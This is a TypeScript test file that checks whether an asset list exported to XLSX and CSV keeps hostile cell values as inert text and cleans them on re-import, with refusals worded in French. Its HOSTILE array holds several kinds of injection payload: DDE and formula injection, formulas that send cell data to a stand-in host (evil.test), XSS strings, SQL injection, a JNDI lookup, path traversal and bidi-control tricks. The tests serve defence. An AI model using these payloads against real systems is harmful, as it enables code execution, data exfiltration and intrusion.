/** What a spreadsheet, a page, a database or a terminal could run or trip over, out in both formats and in again. */
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { readBytes } from '../../../src/core/import/read-file.ts';
import { cleanText } from '../../../src/core/kernel/lib/clean-text.ts';
import { OWN_NUMBER, toCellText } from '../../../src/core/kernel/lib/workbook-text.ts';
import { known, plan } from '../../core/import/_plan.ts';
import { exportList, exportText } from './_back.ts';

const HOSTILE: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '=HYPERLINK("http://evil.test?x="&A1,"Cliquez")',
  '=WEBSERVICE("http://evil.test")',
  '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
  '=DDE("cmd";"/C calc";"!A0")',
  '=@SUM(1+1)*cmd|calc!A0',
  '+cmd|calc!A0',
  '+1+1',
  '+33 1 02 03 04 05',
  "-2+3+cmd|' /C calc'!A0",
  '-1',
  '- tiret',
  '@SUM(1+1)',
  '@auteur',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  "'=1+1",
  '="00123"',
  '"=1+1"',
  '=1+1";"=2+2',
  'a;b,c\td|e',
  "Fuite,=cmd|' /C calc'!A0,fin",
  'Fuite;"=HYPERLINK(""http://evil.test"")',
  "a,'=1+1,-5,+33 1,\t@SUM(1)|-cmd",
  "''=1+1",
  "'\n=1+1",
  'ligne 1\r\n=ligne 2',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  ']]><c t="str"><f>1+1</f></c>',
  '&lt;b&gt; &amp;#0; &nbsp;',
  "Robert'); DROP TABLE asset;--",
  "' OR '1'='1",
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '../../../etc/passwd',
  '%00%0d%0aSet-Cookie: x=1',
  'zéro\u200b\u200d\ufeffwidth',
  '\u202egnp.exe\u202c',
  '\u2066\u2069\u061cRTL\u200f',
  'nul\0octet',
  '\u0007\u001b[31mrouge',
  '🔧👩‍🔧',
  'x'.repeat(200),
];

/** Halves of characters, which no file can hold but a paste may. */
const HALVES = ['moitié \ud83d de signe', '\udc00 seule'];

/** Controls, and what turns the direction of the text around it. */
const isHarmful = (sign: string): boolean =>
  (/\p{Control}/u.test(sign) && !'\t\n\r'.includes(sign)) || /[\u202a-\u202e\u2066-\u2069]/u.test(sign);

const asset = (name: string, at: number) => ({
  id: at + 1,
  name,
  balise: `T-${at}`,
  category: null,
  site: null,
});
const ASSETS = HOSTILE.map(asset);
const HELD = known({ assets: ASSETS });
const HALF = known({ assets: HALVES.map(asset) });

describe('cells that could do harm', () => {
  test('are forty at least, each of them another', () => {
    expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(40);
  });

  test('are texts in a workbook, and the same when it is imported', async () => {
    const file = await exportList('assets', HELD.assets);
    const xml = strFromU8(unzipSync(file)['xl/worksheets/sheet1.xml']!);
    expect(xml).not.toMatch(/<f[ >/]/);
    const [sheet] = (await readBytes(file)).sheets;
    const at = sheet!.rows[0]!.indexOf('Équipement');
    expect(sheet!.rows.slice(1).map((row) => row[at])).toEqual(
      HELD.assets.map(({ name }) => toCellText(name.trim())),
    );
    expect(plan('assets', sheet!.rows, HELD).steps).toEqual([]);
  });

  test('are texts in a CSV, and the same when it is imported', async () => {
    const [sheet] = (await readBytes(await exportText('assets', HELD.assets))).sheets;
    const made = plan('assets', sheet!.rows, HELD);
    expect(made.rows.filter(({ status }) => status !== 'same')).toEqual([]);
    expect(made.rows).toHaveLength(HOSTILE.length);
  });

  test.each(HOSTILE)('%j becomes the name of what is created, without what cannot be seen', (text) => {
    const made = plan('assets', [
      ['Nom', 'Balise'],
      [text, 'N-1'],
    ]);
    expect(made.rows.map(({ problems }) => problems)).toEqual([[]]);
    const name = made.steps[0]?.body.name as string;
    expect([...name].filter(isHarmful)).toEqual([]);
    // what our own CSV puts around a text is no part of it
    if (!/(?:^|,)'\s*'*=|^="/.test(text))
      expect(name).toBe(cleanText(text).replaceAll('\0', '').replaceAll('\r\n', ' '));
  });

  test.each(HOSTILE)('%j becomes another name of a numbered row, and nothing else', (text) => {
    const held = known({ assets: [{ ...asset('Pompe', 0) }] });
    const made = plan(
      'assets',
      [
        ['Équipement', 'Balise', OWN_NUMBER],
        [text, 'T-0', '1'],
      ],
      held,
    );
    expect(made.steps.map(({ id, body }) => [id, Object.keys(body)])).toEqual([[1, ['name']]]);
  });

  test.each(HALVES)(
    '%j is written without its half, is the same then, and is refused elsewhere',
    async (text) => {
      const [sheet] = (await readBytes(await exportList('assets', HALF.assets))).sheets;
      expect(sheet!.rows.flat().join('')).not.toMatch(/\p{Surrogate}/u);
      expect(plan('assets', sheet!.rows, HALF).steps).toEqual([]);
      const made = plan('assets', [
        ['Nom', 'Balise'],
        [text, 'N-1'],
      ]);
      expect(made.rows[0]?.problems).toEqual([{ column: 0, message: expect.stringMatching(/a été perdu/) }]);
    },
  );

  const LONG = 'x'.repeat(201);
  test.each([
    ['a name that is too long', 'Nom', LONG],
    ['a tag with an accent', 'Balise', 'É-1'],
    ['a tag that is too long', 'Balise', 'T'.repeat(41)],
    ['a number that a spreadsheet has shortened', 'Balise', '6,37E+15'],
    ['a character that was lost', 'Nom', 'Unit\ufffd'],
    ['a wrong encoding', 'Nom', 'RÃ©serve'],
    ['a fifth level of a site', 'Site', 'a > b > c > d > e'],
    ['the number of something else', OWN_NUMBER, '=cmd|calc!A0'],
  ])('%s is refused in French, by row and column', (_, column, cell) => {
    const headers = ['Nom', 'Balise', 'Site', OWN_NUMBER];
    const row = ['Pompe', 'P-1', '', ''];
    row[headers.indexOf(column)] = cell;
    const made = plan('assets', [headers, ['Vanne', 'V-1', '', ''], row]);
    expect(made.rows.map(({ status }) => status)).toEqual(['new', 'refused']);
    const [problem] = made.rows[1]?.problems ?? [];
    expect(made.rows[1]?.line).toBe(3);
    expect(problem?.column).toBe(headers.indexOf(column));
    expect(problem?.message).toMatch(/[a-zàéèêç]{3,} .*[.»]$/);
    expect(problem?.message).not.toMatch(/invalid|expected|received|length|undefined/i);
  });
});
